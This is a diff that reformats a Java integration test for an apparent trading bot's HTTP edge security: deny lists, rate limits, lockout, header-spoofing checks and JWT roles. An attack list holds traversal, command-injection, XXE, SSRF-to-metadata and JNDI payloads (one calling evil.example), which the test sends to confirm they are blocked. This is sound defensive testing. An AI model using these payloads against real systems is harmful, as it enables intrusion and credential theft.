@@ -1,7 +1,6 @@
 package io.antbot.web;
 
 import static io.antbot.testing.Eventually.eventually;
-
 import static org.assertj.core.api.Assertions.assertThat;
 
 import io.antbot.bus.Addresses;
@@ -17,7 +16,6 @@ import io.vertx.core.Vertx;
 import io.vertx.core.buffer.Buffer;
 import io.vertx.core.json.JsonArray;
 import io.vertx.core.json.JsonObject;
-import io.vertx.ext.web.client.HttpRequest;
 import io.vertx.ext.web.client.HttpResponse;
 import io.vertx.ext.web.client.WebClient;
 import io.vertx.ext.web.client.WebClientOptions;
@@ -29,7 +27,6 @@ import java.nio.file.Path;
 import java.nio.file.StandardOpenOption;
 import java.util.ArrayList;
 import java.util.List;
-import java.util.function.Supplier;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.DisplayName;
 import org.junit.jupiter.api.Test;
@@ -37,16 +34,16 @@ import org.junit.jupiter.api.extension.ExtendWith;
 import org.junit.jupiter.api.io.TempDir;
 
 /**
- * The edge chain through real HTTP requests against the whole runtime (staging, port 0): IP lists, rate limits,
- * threat scan, JWT authentication and the role check, with security headers on every response.
+ * The edge chain through real HTTP requests against the whole runtime (staging, port 0): IP lists,
+ * rate limits, threat scan, JWT authentication and the role check, with security headers on every
+ * response.
  */
 @ExtendWith(VertxExtension.class)
 class EdgeChainHttpTest {
 
   private static final String PASSWORD = "correct horse battery staple";
 
-  @TempDir
-  static Path dir;
+  @TempDir static Path dir;
 
   private static WebClient client;
   private static String adminToken;
@@ -56,7 +53,9 @@ class EdgeChainHttpTest {
   static void start(Vertx vertx, VertxTestContext test) throws IOException {
     Path conf = TestConf.copyIsolated(dir.resolve("conf"));
     SecurityTestSupport.presetRsaKey(dir.resolve("conf").resolve("var"));
-    Files.writeString(conf.resolve("staging.yaml"), """
+    Files.writeString(
+        conf.resolve("staging.yaml"),
+        """
 
       security:
         bcrypt_cost: 4
@@ -68,48 +67,83 @@ class EdgeChainHttpTest {
           policies:
             login: {capacity: 50, refill: 50, period_s: 60}
             tight: {capacity: 2, refill: 2, period_s: 60}
-      """, StandardOpenOption.APPEND);
+      """,
+        StandardOpenOption.APPEND);
     AntBot.start(vertx, new LaunchOptions(conf.toString(), "staging", 0))
-      .compose(id -> vertx.eventBus().<JsonObject>request(Addresses.HTTP_STATUS, new JsonObject()))
-      .compose(status -> {
-        int port = status.body().getJsonObject("details").getInteger("port");
-        client = WebClient.create(vertx, new WebClientOptions().setDefaultHost("127.0.0.1").setDefaultPort(port));
-        return Future.all(addUser(vertx, "edgeadmin", "admin"), addUser(vertx, "edgeviewer", "viewer"),
-          addUser(vertx, "edgelocked", "viewer"));
-      })
-      .compose(v -> login("edgeadmin", PASSWORD))
-      .compose(admin -> {
-        adminToken = admin.bodyAsJsonObject().getString("access_token");
-        return login("edgeviewer", PASSWORD);
-      })
-      .onComplete(test.succeeding(viewer -> {
-        viewerToken = viewer.bodyAsJsonObject().getString("access_token");
-        test.verify(() -> assertThat(adminToken).isNotNull());
-        test.completeNow();
-      }));
+        .compose(
+            id -> vertx.eventBus().<JsonObject>request(Addresses.HTTP_STATUS, new JsonObject()))
+        .compose(
+            status -> {
+              int port = status.body().getJsonObject("details").getInteger("port");
+              client =
+                  WebClient.create(
+                      vertx,
+                      new WebClientOptions().setDefaultHost("127.0.0.1").setDefaultPort(port));
+              return Future.all(
+                  addUser(vertx, "edgeadmin", "admin"),
+                  addUser(vertx, "edgeviewer", "viewer"),
+                  addUser(vertx, "edgelocked", "viewer"));
+            })
+        .compose(v -> login("edgeadmin", PASSWORD))
+        .compose(
+            admin -> {
+              adminToken = admin.bodyAsJsonObject().getString("access_token");
+              return login("edgeviewer", PASSWORD);
+            })
+        .onComplete(
+            test.succeeding(
+                viewer -> {
+                  viewerToken = viewer.bodyAsJsonObject().getString("access_token");
+                  test.verify(() -> assertThat(adminToken).isNotNull());
+                  test.completeNow();
+                }));
   }
 
   private static Future<Void> addUser(Vertx vertx, String name, String role) {
-    return vertx.eventBus().request(Addresses.SECURITY_USERS_ADD, new JsonObject().put("username", name)
-      .put("password", PASSWORD).put("roles", new JsonArray().add(role))).mapEmpty();
+    return vertx
+        .eventBus()
+        .request(
+            Addresses.SECURITY_USERS_ADD,
+            new JsonObject()
+                .put("username", name)
+                .put("password", PASSWORD)
+                .put("roles", new JsonArray().add(role)))
+        .mapEmpty();
   }
 
   private static Future<HttpResponse<Buffer>> login(String user, String password) {
-    return client.post("/api/v1/auth/login")
-      .sendJsonObject(new JsonObject().put("username", user).put("password", password));
+    return client
+        .post("/api/v1/auth/login")
+        .sendJsonObject(new JsonObject().put("username", user).put("password", password));
   }
 
   private static Future<Void> set(Vertx vertx, String key, Object value) {
-    return vertx.eventBus().request(Addresses.CONFIG_SET, new JsonObject().put("key", key).put("value", value)
-      .put("reason", "test").put("actor", "tester")).mapEmpty();
+    return vertx
+        .eventBus()
+        .request(
+            Addresses.CONFIG_SET,
+            new JsonObject()
+                .put("key", key)
+                .put("value", value)
+                .put("reason", "test")
+                .put("actor", "tester"))
+        .mapEmpty();
   }
 
-  /** The value as an attack in the query string of a public-looking API request, or in a body for XML / JSON. */
+  /**
+   * The value as an attack in the query string of a public-looking API request, or in a body for
+   * XML / JSON.
+   */
   private static Future<HttpResponse<Buffer>> attack(String category, String payload) {
     return switch (category) {
-      case "xxe" -> client.post("/api/v1/config/validate").timeout(5000).putHeader("Content-Type", "application/xml")
-        .sendBuffer(Buffer.buffer(payload));
-      case "nosql" -> client.post("/api/v1/auth/login").timeout(5000).sendJsonObject(new JsonObject(payload));
+      case "xxe" ->
+          client
+              .post("/api/v1/config/validate")
+              .timeout(5000)
+              .putHeader("Content-Type", "application/xml")
+              .sendBuffer(Buffer.buffer(payload));
+      case "nosql" ->
+          client.post("/api/v1/auth/login").timeout(5000).sendJsonObject(new JsonObject(payload));
       default -> client.get("/api/v1/config").timeout(5000).addQueryParam("q", payload).send();
     };
   }
@@ -120,7 +154,10 @@ class EdgeChainHttpTest {
     {"traversal", "../../../../etc/passwd"},
     {"command", "127.0.0.1; cat /etc/passwd"},
     {"ldap", "*)(uid=*))(|(uid=*"},
-    {"xxe", "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>"},
+    {
+      "xxe",
+      "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>"
+    },
     {"ssrf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
     {"template", "{{config.items()}}"},
     {"jndi", "${jndi:ldap://evil.example/a}"},
@@ -132,20 +169,31 @@ class EdgeChainHttpTest {
   void attacksBlocked(VertxTestContext test) {
     List<Future<HttpResponse<Buffer>>> sent = new ArrayList<>();
     for (String[] attack : ATTACKS) {
-      sent.add(attack(attack[0], attack[1]).recover(f -> Future.failedFuture(attack[0] + ": " + f)));
+      sent.add(
+          attack(attack[0], attack[1]).recover(f -> Future.failedFuture(attack[0] + ": " + f)));
     }
-    Future.all(sent).onComplete(test.succeeding(all -> test.verify(() -> {
-      for (int i = 0; i < ATTACKS.length; i++) {
-        HttpResponse<Buffer> response = sent.get(i).result();
-        assertThat(response.statusCode()).as(ATTACKS[i][0]).isEqualTo(403);
-        assertThat(response.getHeader("Content-Type")).isEqualTo(Problem.CONTENT_TYPE);
-        JsonObject problem = response.bodyAsJsonObject();
-        assertThat(problem.getString("detail")).as(ATTACKS[i][0]).isEqualTo("request blocked");
-        assertThat(response.bodyAsString()).doesNotContain("sqli", "xss", "lfi", "cmd-", "ldap", "xxe", "ssrf", "ssti",
-          "jndi", "nosql", "rule");
-      }
-      test.completeNow();
-    })));
+    Future.all(sent)
+        .onComplete(
+            test.succeeding(
+                all ->
+                    test.verify(
+                        () -> {
+                          for (int i = 0; i < ATTACKS.length; i++) {
+                            HttpResponse<Buffer> response = sent.get(i).result();
+                            assertThat(response.statusCode()).as(ATTACKS[i][0]).isEqualTo(403);
+                            assertThat(response.getHeader("Content-Type"))
+                                .isEqualTo(Problem.CONTENT_TYPE);
+                            JsonObject problem = response.bodyAsJsonObject();
+                            assertThat(problem.getString("detail"))
+                                .as(ATTACKS[i][0])
+                                .isEqualTo("request blocked");
+                            assertThat(response.bodyAsString())
+                                .doesNotContain(
+                                    "sqli", "xss", "lfi", "cmd-", "ldap", "xxe", "ssrf", "ssti",
+                                    "jndi", "nosql", "rule");
+                          }
+                          test.completeNow();
+                        })));
   }
 
   @Test
@@ -153,315 +201,569 @@ class EdgeChainHttpTest {
   void detectOnly(Vertx vertx, VertxTestContext test) {
     String probe = "1' or '1'='1";
     set(vertx, "security.threats.mode", "detect-only")
-      .compose(v -> eventually(vertx, () -> client.get("/api/v1/config").addQueryParam("q", probe)
-        .bearerTokenAuthentication(adminToken).send().map(r -> r.statusCode() == 200)))
-      .compose(v -> vertx.eventBus().<JsonObject>request(Addresses.SECURITY_EVENTS_QUERY, new JsonObject().put("limit", 50)))
-      .compose(events -> set(vertx, "security.threats.mode", "block").map(events.body()))
-      .compose(events -> eventually(vertx, () -> client.get("/api/v1/config").addQueryParam("q", probe)
-        .bearerTokenAuthentication(adminToken).send().map(r -> r.statusCode() == 403)).map(events))
-      .onComplete(test.succeeding(events -> test.verify(() -> {
-        assertThat(events.getJsonArray("events").stream().map(JsonObject.class::cast)
-          .filter(e -> "threat_detected".equals(e.getString("type")))
-          .anyMatch(e -> !e.getJsonObject("details").getBoolean("blocked"))).isTrue();
-        test.completeNow();
-      })));
+        .compose(
+            v ->
+                eventually(
+                    vertx,
+                    () ->
+                        client
+                            .get("/api/v1/config")
+                            .addQueryParam("q", probe)
+                            .bearerTokenAuthentication(adminToken)
+                            .send()
+                            .map(r -> r.statusCode() == 200)))
+        .compose(
+            v ->
+                vertx
+                    .eventBus()
+                    .<JsonObject>request(
+                        Addresses.SECURITY_EVENTS_QUERY, new JsonObject().put("limit", 50)))
+        .compose(events -> set(vertx, "security.threats.mode", "block").map(events.body()))
+        .compose(
+            events ->
+                eventually(
+                        vertx,
+                        () ->
+                            client
+                                .get("/api/v1/config")
+                                .addQueryParam("q", probe)
+                                .bearerTokenAuthentication(adminToken)
+                                .send()
+                                .map(r -> r.statusCode() == 403))
+                    .map(events))
+        .onComplete(
+            test.succeeding(
+                events ->
+                    test.verify(
+                        () -> {
+                          assertThat(
+                                  events.getJsonArray("events").stream()
+                                      .map(JsonObject.class::cast)
+                                      .filter(e -> "threat_detected".equals(e.getString("type")))
+                                      .anyMatch(
+                                          e -> !e.getJsonObject("details").getBoolean("blocked")))
+                              .isTrue();
+                          test.completeNow();
+                        })));
   }
 
   @Test
   @DisplayName("failed logins lock the user out with 429, and the lock lifts by itself")
   void lockoutAndUnlock(Vertx vertx, VertxTestContext test) {
     login("edgelocked", "wrong password 1")
-      .compose(r -> login("edgelocked", "wrong password 2"))
-      .compose(r -> login("edgelocked", "wrong password 3"))
-      .compose(third -> {
-        test.verify(() -> assertThat(third.statusCode()).isEqualTo(401));
-        return login("edgelocked", PASSWORD);
-      })
-      .compose(locked -> {
-        test.verify(() -> {
-          assertThat(locked.statusCode()).isEqualTo(429);
-          assertThat(locked.bodyAsJsonObject().getString("detail")).isEqualTo("too many failed logins; try again in 1 s");
-        });
-        return delay(vertx, 1_100).compose(v -> login("edgelocked", PASSWORD));
-      })
-      .onComplete(test.succeeding(unlocked -> test.verify(() -> {
-        assertThat(unlocked.statusCode()).isEqualTo(200);
-        assertThat(unlocked.bodyAsJsonObject().getString("access_token")).isNotBlank();
-        test.completeNow();
-      })));
+        .compose(r -> login("edgelocked", "wrong password 2"))
+        .compose(r -> login("edgelocked", "wrong password 3"))
+        .compose(
+            third -> {
+              test.verify(() -> assertThat(third.statusCode()).isEqualTo(401));
+              return login("edgelocked", PASSWORD);
+            })
+        .compose(
+            locked -> {
+              test.verify(
+                  () -> {
+                    assertThat(locked.statusCode()).isEqualTo(429);
+                    assertThat(locked.bodyAsJsonObject().getString("detail"))
+                        .isEqualTo("too many failed logins; try again in 1 s");
+                  });
+              return delay(vertx, 1_100).compose(v -> login("edgelocked", PASSWORD));
+            })
+        .onComplete(
+            test.succeeding(
+                unlocked ->
+                    test.verify(
+                        () -> {
+                          assertThat(unlocked.statusCode()).isEqualTo(200);
+                          assertThat(unlocked.bodyAsJsonObject().getString("access_token"))
+                              .isNotBlank();
+                          test.completeNow();
+                        })));
   }
 
   @Test
-  @DisplayName("the login limit answers 429 with exact headers, and a spoofed X-Forwarded-For does not reset it")
+  @DisplayName(
+      "the login limit answers 429 with exact headers, and a spoofed X-Forwarded-For does not reset it")
   void loginRateLimit(Vertx vertx, VertxTestContext test) {
     set(vertx, "security.rate_limits.route_classes", new JsonObject().put("login", "tight"))
-      .compose(v -> eventually(vertx, () -> vertx.eventBus().<JsonObject>request(Addresses.SECURITY_EDGE_ADMIT,
-          new JsonObject().put("remote_ip", "192.0.2.99").put("route_class", "login"))
-        .map(reply -> reply.body().getJsonObject("headers").getString("RateLimit-Policy", "").contains("tight"))))
-      .compose(v -> spoofed("198.51.100.1"))
-      .compose(first -> spoofed("198.51.100.2"))
-      .compose(second -> spoofed("198.51.100.3"))
-      .onComplete(test.succeeding(third -> test.verify(() -> {
-        assertThat(third.statusCode()).isEqualTo(429);
-        assertThat(third.getHeader("Content-Type")).isEqualTo(Problem.CONTENT_TYPE);
-        assertThat(third.bodyAsJsonObject().getString("detail")).isEqualTo("rate limit exceeded");
-        assertThat(third.getHeader("RateLimit-Policy")).isEqualTo("\"tight\";q=2;w=60");
-        assertThat(third.getHeader("RateLimit")).isEqualTo("\"tight\";r=0;t=60");
-        assertThat(third.getHeader("Retry-After")).isEqualTo("30");
-        set(vertx, "security.rate_limits.route_classes", new JsonObject().put("login", "login"))
-          .onComplete(test.succeedingThenComplete());
-      })));
+        .compose(
+            v ->
+                eventually(
+                    vertx,
+                    () ->
+                        vertx
+                            .eventBus()
+                            .<JsonObject>request(
+                                Addresses.SECURITY_EDGE_ADMIT,
+                                new JsonObject()
+                                    .put("remote_ip", "192.0.2.99")
+                                    .put("route_class", "login"))
+                            .map(
+                                reply ->
+                                    reply
+                                        .body()
+                                        .getJsonObject("headers")
+                                        .getString("RateLimit-Policy", "")
+                                        .contains("tight"))))
+        .compose(v -> spoofed("198.51.100.1"))
+        .compose(first -> spoofed("198.51.100.2"))
+        .compose(second -> spoofed("198.51.100.3"))
+        .onComplete(
+            test.succeeding(
+                third ->
+                    test.verify(
+                        () -> {
+                          assertThat(third.statusCode()).isEqualTo(429);
+                          assertThat(third.getHeader("Content-Type"))
+                              .isEqualTo(Problem.CONTENT_TYPE);
+                          assertThat(third.bodyAsJsonObject().getString("detail"))
+                              .isEqualTo("rate limit exceeded");
+                          assertThat(third.getHeader("RateLimit-Policy"))
+                              .isEqualTo("\"tight\";q=2;w=60");
+                          assertThat(third.getHeader("RateLimit")).isEqualTo("\"tight\";r=0;t=60");
+                          assertThat(third.getHeader("Retry-After")).isEqualTo("30");
+                          set(
+                                  vertx,
+                                  "security.rate_limits.route_classes",
+                                  new JsonObject().put("login", "login"))
+                              .onComplete(test.succeedingThenComplete());
+                        })));
   }
 
   private static Future<HttpResponse<Buffer>> spoofed(String forwardedFor) {
-    return client.post("/api/v1/auth/login").putHeader("X-Forwarded-For", forwardedFor)
-      .sendJsonObject(new JsonObject().put("username", "nobody").put("password", "x"));
+    return client
+        .post("/api/v1/auth/login")
+        .putHeader("X-Forwarded-For", forwardedFor)
+        .sendJsonObject(new JsonObject().put("username", "nobody").put("password", "x"));
   }
 
   @Test
   @DisplayName("a deny-listed peer stays refused whatever X-Forwarded-For it sends")
   void denyListNotEscaped(Vertx vertx, VertxTestContext test) {
     set(vertx, "security.ip_lists.deny", new JsonArray().add("127.0.0.1"))
-      .compose(v -> eventually(vertx, () -> client.get("/api/v1/openapi.json").putHeader("X-Forwarded-For", "198.51.100.7")
-        .send().map(r -> r.statusCode() == 403)))
-      .compose(v -> client.get("/api/v1/config").putHeader("X-Forwarded-For", "198.51.100.7")
-        .bearerTokenAuthentication(adminToken).send())
-      .compose(denied -> set(vertx, "security.ip_lists.deny", new JsonArray()).map(denied))
-      .compose(denied -> eventually(vertx, () -> client.get("/api/v1/openapi.json").send().map(r -> r.statusCode() == 200))
-        .map(denied))
-      .onComplete(test.succeeding(denied -> test.verify(() -> {
-        assertThat(denied.statusCode()).isEqualTo(403);
-        assertThat(denied.bodyAsJsonObject().getString("detail")).isEqualTo("access denied");
-        test.completeNow();
-      })));
+        .compose(
+            v ->
+                eventually(
+                    vertx,
+                    () ->
+                        client
+                            .get("/api/v1/openapi.json")
+                            .putHeader("X-Forwarded-For", "198.51.100.7")
+                            .send()
+                            .map(r -> r.statusCode() == 403)))
+        .compose(
+            v ->
+                client
+                    .get("/api/v1/config")
+                    .putHeader("X-Forwarded-For", "198.51.100.7")
+                    .bearerTokenAuthentication(adminToken)
+                    .send())
+        .compose(denied -> set(vertx, "security.ip_lists.deny", new JsonArray()).map(denied))
+        .compose(
+            denied ->
+                eventually(
+                        vertx,
+                        () ->
+                            client
+                                .get("/api/v1/openapi.json")
+                                .send()
+                                .map(r -> r.statusCode() == 200))
+                    .map(denied))
+        .onComplete(
+            test.succeeding(
+                denied ->
+                    test.verify(
+                        () -> {
+                          assertThat(denied.statusCode()).isEqualTo(403);
+                          assertThat(denied.bodyAsJsonObject().getString("detail"))
+                              .isEqualTo("access denied");
+                          test.completeNow();
+                        })));
   }
 
   @Test
-  @DisplayName("failed logins lock a user from that address only; the owner elsewhere logs in; an admin unlocks")
+  @DisplayName(
+      "failed logins lock a user from that address only; the owner elsewhere logs in; an admin unlocks")
   void lockoutPerUserAndAddress(Vertx vertx, VertxTestContext test) {
-    JsonObject wrong = new JsonObject().put("username", "edgeowner").put("password", "not the password at all");
+    JsonObject wrong =
+        new JsonObject().put("username", "edgeowner").put("password", "not the password at all");
     JsonObject right = new JsonObject().put("username", "edgeowner").put("password", PASSWORD);
     addUser(vertx, "edgeowner", "viewer")
-      .compose(v -> set(vertx, "security.ip_lists.trusted_proxies", new JsonArray().add("127.0.0.1")))
-      .compose(v -> set(vertx, "security.lockout.lockout_base_s", 60))
-      .compose(v -> from("203.0.113.50", wrong))
-      .compose(v -> from("203.0.113.50", wrong))
-      .compose(v -> from("203.0.113.50", wrong))
-      .compose(v -> from("203.0.113.50", right))
-      .compose(lockedOut -> from("198.51.100.60", right).map(owner -> List.of(lockedOut, owner)))
-      .compose(two -> client.post("/api/v1/users/edgeowner/unlock").bearerTokenAuthentication(adminToken).send()
-        .map(unlock -> List.of(two.get(0), two.get(1), unlock)))
-      .compose(three -> from("203.0.113.50", right).map(after -> List.of(three.get(0), three.get(1), three.get(2), after)))
-      .compose(all -> set(vertx, "security.ip_lists.trusted_proxies", new JsonArray())
-        .compose(v -> set(vertx, "security.lockout.lockout_base_s", 1)).map(all))
-      .onComplete(test.succeeding(all -> test.verify(() -> {
-        assertThat(all.get(0).statusCode()).as("the attacker's address is locked").isEqualTo(429);
-        assertThat(all.get(0).bodyAsJsonObject().getString("detail")).startsWith("too many failed logins; try again in");
-        assertThat(all.get(1).statusCode()).as("the owner from elsewhere").isEqualTo(200);
-        assertThat(all.get(2).statusCode()).isEqualTo(200);
-        assertThat(all.get(2).bodyAsJsonObject()).isEqualTo(new JsonObject().put("user", "edgeowner").put("unlocked", 1));
-        assertThat(all.get(3).statusCode()).as("unlocked").isEqualTo(200);
-        test.completeNow();
-      })));
+        .compose(
+            v -> set(vertx, "security.ip_lists.trusted_proxies", new JsonArray().add("127.0.0.1")))
+        .compose(v -> set(vertx, "security.lockout.lockout_base_s", 60))
+        .compose(v -> from("203.0.113.50", wrong))
+        .compose(v -> from("203.0.113.50", wrong))
+        .compose(v -> from("203.0.113.50", wrong))
+        .compose(v -> from("203.0.113.50", right))
+        .compose(lockedOut -> from("198.51.100.60", right).map(owner -> List.of(lockedOut, owner)))
+        .compose(
+            two ->
+                client
+                    .post("/api/v1/users/edgeowner/unlock")
+                    .bearerTokenAuthentication(adminToken)
+                    .send()
+                    .map(unlock -> List.of(two.get(0), two.get(1), unlock)))
+        .compose(
+            three ->
+                from("203.0.113.50", right)
+                    .map(after -> List.of(three.get(0), three.get(1), three.get(2), after)))
+        .compose(
+            all ->
+                set(vertx, "security.ip_lists.trusted_proxies", new JsonArray())
+                    .compose(v -> set(vertx, "security.lockout.lockout_base_s", 1))
+                    .map(all))
+        .onComplete(
+            test.succeeding(
+                all ->
+                    test.verify(
+                        () -> {
+                          assertThat(all.get(0).statusCode())
+                              .as("the attacker's address is locked")
+                              .isEqualTo(429);
+                          assertThat(all.get(0).bodyAsJsonObject().getString("detail"))
+                              .startsWith("too many failed logins; try again in");
+                          assertThat(all.get(1).statusCode())
+                              .as("the owner from elsewhere")
+                              .isEqualTo(200);
+                          assertThat(all.get(2).statusCode()).isEqualTo(200);
+                          assertThat(all.get(2).bodyAsJsonObject())
+                              .isEqualTo(
+                                  new JsonObject().put("user", "edgeowner").put("unlocked", 1));
+                          assertThat(all.get(3).statusCode()).as("unlocked").isEqualTo(200);
+                          test.completeNow();
+                        })));
   }
 
   @Test
-  @DisplayName("lockout.enabled: false releases the locks in force at once; switched back on, they do not return")
+  @DisplayName(
+      "lockout.enabled: false releases the locks in force at once; switched back on, they do not return")
   void lockoutSwitchReleases(Vertx vertx, VertxTestContext test) {
-    JsonObject wrong = new JsonObject().put("username", "edgeswitch").put("password", "not the password at all");
+    JsonObject wrong =
+        new JsonObject().put("username", "edgeswitch").put("password", "not the password at all");
     JsonObject right = new JsonObject().put("username", "edgeswitch").put("password", PASSWORD);
     String attacker = "203.0.113.70";
     List<HttpResponse<Buffer>> seen = new ArrayList<>();
     addUser(vertx, "edgeswitch", "viewer")
-      .compose(v -> set(vertx, "security.ip_lists.trusted_proxies", new JsonArray().add("127.0.0.1")))
-      .compose(v -> set(vertx, "security.lockout.lockout_base_s", 600))
-      .compose(v -> from(attacker, wrong))
-      .compose(v -> from(attacker, wrong))
-      .compose(v -> from(attacker, wrong))
-      .compose(v -> from(attacker, right))
-      .compose(locked -> {
-        seen.add(locked);
-        return set(vertx, "security.lockout.enabled", false);
-      })
-      .compose(v -> eventually(vertx, () -> from(attacker, right).map(r -> r.statusCode() == 200)))
-      .compose(v -> set(vertx, "security.lockout.enabled", true))
-      .compose(v -> from(attacker, right))
-      .compose(after -> {
-        seen.add(after);
-        return set(vertx, "security.ip_lists.trusted_proxies", new JsonArray())
-          .compose(v -> set(vertx, "security.lockout.lockout_base_s", 1));
-      })
-      .onComplete(test.succeeding(v -> test.verify(() -> {
-        assertThat(seen.get(0).statusCode()).as("locked before the switch").isEqualTo(429);
-        assertThat(seen.get(1).statusCode()).as("switched back on: the released lock stays released").isEqualTo(200);
-        test.completeNow();
-      })));
+        .compose(
+            v -> set(vertx, "security.ip_lists.trusted_proxies", new JsonArray().add("127.0.0.1")))
+        .compose(v -> set(vertx, "security.lockout.lockout_base_s", 600))
+        .compose(v -> from(attacker, wrong))
+        .compose(v -> from(attacker, wrong))
+        .compose(v -> from(attacker, wrong))
+        .compose(v -> from(attacker, right))
+        .compose(
+            locked -> {
+              seen.add(locked);
+              return set(vertx, "security.lockout.enabled", false);
+            })
+        .compose(
+            v -> eventually(vertx, () -> from(attacker, right).map(r -> r.statusCode() == 200)))
+        .compose(v -> set(vertx, "security.lockout.enabled", true))
+        .compose(v -> from(attacker, right))
+        .compose(
+            after -> {
+              seen.add(after);
+              return set(vertx, "security.ip_lists.trusted_proxies", new JsonArray())
+                  .compose(v -> set(vertx, "security.lockout.lockout_base_s", 1));
+            })
+        .onComplete(
+            test.succeeding(
+                v ->
+                    test.verify(
+                        () -> {
+                          assertThat(seen.get(0).statusCode())
+                              .as("locked before the switch")
+                              .isEqualTo(429);
+                          assertThat(seen.get(1).statusCode())
+                              .as("switched back on: the released lock stays released")
+                              .isEqualTo(200);
+                          test.completeNow();
+                        })));
   }
 
   private static Future<HttpResponse<Buffer>> from(String address, JsonObject login) {
-    return client.post("/api/v1/auth/login").putHeader("X-Forwarded-For", address).sendJsonObject(login);
+    return client
+        .post("/api/v1/auth/login")
+        .putHeader("X-Forwarded-For", address)
+        .sendJsonObject(login);
   }
 
   @Test
   @DisplayName("POST /auth/refresh records the address the edge saw, not a source_ip from the body")
   void refreshSourceIpFromTheEdge(Vertx vertx, VertxTestContext test) {
     login("edgeviewer", PASSWORD)
-      .compose(pair -> client.post("/api/v1/auth/refresh").sendJsonObject(new JsonObject()
-        .put("refresh_token", pair.bodyAsJsonObject().getString("refresh_token")).put("source_ip", "203.0.113.99")))
-      .compose(refreshed -> vertx.eventBus().<JsonObject>request(Addresses.SECURITY_AUDIT_QUERY,
-        new JsonObject().put("type", "token_refreshed").put("limit", 1)).map(reply -> List.of(refreshed, reply.body())))
-      .onComplete(test.succeeding(results -> test.verify(() -> {
-        assertThat(((HttpResponse<?>) results.get(0)).statusCode()).isEqualTo(200);
-        JsonObject entry = ((JsonObject) results.get(1)).getJsonArray("entries").getJsonObject(0);
-        assertThat(entry.getString("source_ip")).isEqualTo("127.0.0.1");
-        test.completeNow();
-      })));
+        .compose(
+            pair ->
+                client
+                    .post("/api/v1/auth/refresh")
+                    .sendJsonObject(
+                        new JsonObject()
+                            .put(
+                                "refresh_token", pair.bodyAsJsonObject().getString("refresh_token"))
+                            .put("source_ip", "203.0.113.99")))
+        .compose(
+            refreshed ->
+                vertx
+                    .eventBus()
+                    .<JsonObject>request(
+                        Addresses.SECURITY_AUDIT_QUERY,
+                        new JsonObject().put("type", "token_refreshed").put("limit", 1))
+                    .map(reply -> List.of(refreshed, reply.body())))
+        .onComplete(
+            test.succeeding(
+                results ->
+                    test.verify(
+                        () -> {
+                          assertThat(((HttpResponse<?>) results.get(0)).statusCode())
+                              .isEqualTo(200);
+                          JsonObject entry =
+                              ((JsonObject) results.get(1))
+                                  .getJsonArray("entries")
+                                  .getJsonObject(0);
+                          assertThat(entry.getString("source_ip")).isEqualTo("127.0.0.1");
+                          test.completeNow();
+                        })));
   }
 
   @Test
-  @DisplayName("behind a trusted proxy that adds its own X-Forwarded-For line, the client cannot pick its address")
+  @DisplayName(
+      "behind a trusted proxy that adds its own X-Forwarded-For line, the client cannot pick its address")
   void forwardedForLinesReadInOrder(Vertx vertx, VertxTestContext test) {
     set(vertx, "security.ip_lists.trusted_proxies", new JsonArray().add("127.0.0.1"))
-      .compose(v -> set(vertx, "security.ip_lists.deny", new JsonArray().add("198.51.100.7")))
-      .compose(v -> eventually(vertx, () -> client.get("/api/v1/openapi.json")
-        .putHeader("X-Forwarded-For", "198.51.100.7").send().map(r -> r.statusCode() == 403)))
-      .compose(v -> {
-        io.vertx.core.MultiMap headers = io.vertx.core.MultiMap.caseInsensitiveMultiMap()
-          .add("X-Forwarded-For", "203.0.113.5").add("X-Forwarded-For", "198.51.100.7");
-        return client.get("/api/v1/openapi.json").putHeaders(headers).send();
-      })
-      .compose(denied -> set(vertx, "security.ip_lists.deny", new JsonArray())
-        .compose(v -> set(vertx, "security.ip_lists.trusted_proxies", new JsonArray()))
-        .compose(v -> eventually(vertx, () -> client.get("/api/v1/openapi.json").send()
-          .map(r -> r.statusCode() == 200)))
-        .map(denied))
-      .onComplete(test.succeeding(denied -> test.verify(() -> {
-        assertThat(denied.statusCode()).isEqualTo(403);
-        test.completeNow();
-      })));
+        .compose(v -> set(vertx, "security.ip_lists.deny", new JsonArray().add("198.51.100.7")))
+        .compose(
+            v ->
+                eventually(
+                    vertx,
+                    () ->
+                        client
+                            .get("/api/v1/openapi.json")
+                            .putHeader("X-Forwarded-For", "198.51.100.7")
+                            .send()
+                            .map(r -> r.statusCode() == 403)))
+        .compose(
+            v -> {
+              io.vertx.core.MultiMap headers =
+                  io.vertx.core.MultiMap.caseInsensitiveMultiMap()
+                      .add("X-Forwarded-For", "203.0.113.5")
+                      .add("X-Forwarded-For", "198.51.100.7");
+              return client.get("/api/v1/openapi.json").putHeaders(headers).send();
+            })
+        .compose(
+            denied ->
+                set(vertx, "security.ip_lists.deny", new JsonArray())
+                    .compose(v -> set(vertx, "security.ip_lists.trusted_proxies", new JsonArray()))
+                    .compose(
+                        v ->
+                            eventually(
+                                vertx,
+                                () ->
+                                    client
+                                        .get("/api/v1/openapi.json")
+                                        .send()
+                                        .map(r -> r.statusCode() == 200)))
+                    .map(denied))
+        .onComplete(
+            test.succeeding(
+                denied ->
+                    test.verify(
+                        () -> {
+                          assertThat(denied.statusCode()).isEqualTo(403);
+                          test.completeNow();
+                        })));
   }
 
   @Test
-  @DisplayName("no token is 401, a role without the permission is 403, a good token is 200, with security headers")
+  @DisplayName(
+      "no token is 401, a role without the permission is 403, a good token is 200, with security headers")
   void authentication(VertxTestContext test) {
     Future<HttpResponse<Buffer>> none = client.get("/api/v1/config").send();
-    Future<HttpResponse<Buffer>> bad = client.get("/api/v1/config").bearerTokenAuthentication("not.a.token").send();
-    Future<HttpResponse<Buffer>> viewerWrites = client.put("/api/v1/config/trading.dry_run")
-      .bearerTokenAuthentication(viewerToken).sendJsonObject(new JsonObject().put("value", true));
-    Future<HttpResponse<Buffer>> good = client.get("/api/v1/config").bearerTokenAuthentication(viewerToken).send();
-    Future.all(none, bad, viewerWrites, good).onComplete(test.succeeding(all -> test.verify(() -> {
-      assertThat(none.result().statusCode()).isEqualTo(401);
-      assertThat(none.result().bodyAsJsonObject().getString("detail")).isEqualTo("missing bearer token");
-      assertThat(bad.result().statusCode()).isEqualTo(401);
-      assertThat(bad.result().bodyAsJsonObject().getString("detail")).startsWith("token rejected: ");
-      assertThat(viewerWrites.result().statusCode()).isEqualTo(403);
